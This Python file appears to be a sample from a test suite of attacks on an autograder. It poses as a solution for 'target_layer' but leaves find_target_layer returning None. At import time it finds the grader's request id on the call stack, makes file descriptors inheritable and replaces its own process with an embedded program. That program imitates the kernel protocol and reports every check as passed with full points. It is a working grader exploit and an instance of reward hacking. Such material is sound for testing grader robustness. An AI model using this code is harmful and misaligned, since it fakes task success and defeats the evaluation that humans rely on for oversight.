# attack: the kernel's process becomes another program that speaks its language and says yes
# on: empty
# harm: a grader that takes the kernel's word for a verdict takes this one's
# %% solution="target_layer"
import inspect
import os
import sys

PROGRAM = """
import json, os, select, struct, sys
import numpy as np

EVERY = {"error": None, "passed": True, "points": 25, "fraction": 1.0, "outcome": "passed"}


def frame(header, arrays):
    listed = [[name, a.dtype.name, list(a.shape)] for name, a in arrays.items()]
    head = json.dumps({**header, "arrays": listed}).encode()
    body = b"".join(a.tobytes() for a in arrays.values())
    return struct.pack("<II", len(head), len(body)) + head + body


def answer(request):
    args = request.get("args", {})
    value = {"hooks": 0, "grad": True, "clash": "", **EVERY}
    if request.get("name") == "signature":
        value = args["names"]
    if request.get("name") == "layer":
        value = [{"layer": True, "right": True, **EVERY} for _ in args["nets"]]
    names = [*map(str, range(8)), "first", "second", "again", "slope"]
    ones = {name: np.ones((1, 64, 64)) for name in names}
    return frame({"id": request["id"], "value": value, "seconds": 0.1, **EVERY}, ones)


def whole(fd, count):
    data = b""
    while len(data) < count:
        part = os.read(fd, count - len(data))
        if not part:
            raise EOFError
        data += part
    return data


wires = [fd for fd in range(3, 64) if os.path.exists(f"/proc/self/fd/{fd}")]


def say(data):
    for fd in wires:
        try:
            os.set_blocking(fd, True)
            os.write(fd, data)
            return
        except OSError:
            continue


say(frame({"id": int(sys.argv[1]), **EVERY}, {}))
ears = list(wires)
while ears:
    for fd in select.select(ears, [], [])[0]:
        try:
            head, body = struct.unpack("<II", whole(fd, 8))
            request = json.loads(whole(fd, head))
            whole(fd, body)
            say(answer(request))
        except (OSError, EOFError, ValueError):
            ears.remove(fd)
"""


def find_target_layer(model):
    return None


pending = [f.frame.f_locals.get("request") for f in inspect.stack()]
numbers = [r["id"] for r in pending if isinstance(r, dict) and "id" in r]
if numbers:
    for fd in range(3, 64):
        try:
            os.set_inheritable(fd, True)
        except OSError:
            continue
    os.environ["PYTHONPATH"] = os.pathsep.join(sys.path)
    os.execv(sys.executable, [sys.executable, "-c", PROGRAM, str(numbers[-1])])
